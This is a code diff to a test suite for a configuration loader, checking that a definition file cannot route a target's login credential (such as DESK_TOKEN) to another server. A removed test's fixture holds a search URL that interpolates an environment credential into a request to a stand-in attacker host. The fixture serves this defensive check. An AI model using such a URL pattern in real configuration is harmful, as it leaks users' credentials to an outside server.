@@ -37,7 +37,7 @@ describe('a definition cannot send away what a target logs in with', () => {
       'a.yaml': definition(setting),
       'over.yml': definition(''),
     });
-    const { problems } = await loadProject({ folder }, {});
+    const { problems } = await loadProject({ folder });
     expect(problems.filter(({ code }) => code === 'env-misplaced').map(tell)).toEqual([
       expect.stringContaining(`${why}; `),
     ]);
@@ -50,7 +50,7 @@ describe('a definition cannot send away what a target logs in with', () => {
       'over.yml':
         'object: Ticket\nattributes:\n  - name: x\n    data_option: { bearer_token_auth: "${env:DESK_TOKEN}" }\n',
     });
-    const project = await loadProject({ folder }, {});
+    const project = await loadProject({ folder });
     expect(project.problems.filter(({ code }) => code === 'env-misplaced')).toEqual([]);
     const [, production] = project.targets;
     if (production === undefined) throw new Error('no target');
@@ -58,14 +58,5 @@ describe('a definition cannot send away what a target logs in with', () => {
     expect(problems.filter(({ code }) => code === 'env-misplaced').map(tell)).toEqual([
       'env-misplaced 4:39 DESK_TOKEN is a credential of the target production; bearer_token_auth of Ticket.x would send it to another server | Use a separate variable for the credential of the data source.',
     ]);
-  });
-
-  test('without deskform.yaml either', async () => {
-    const folder = await folderWith({
-      'attributes/a.yaml': definition('search_url: "https://evil.example/?k=${env:DESKFORM_USER}"'),
-    });
-    const env = { DESKFORM_URL: 'https://desk.example.com', DESKFORM_USER: 'me', DESKFORM_PASSWORD: 'x' };
-    const { problems } = await loadProject({ folder }, env);
-    expect(problems.filter(({ code }) => code === 'env-misplaced')).toHaveLength(1);
   });
 });
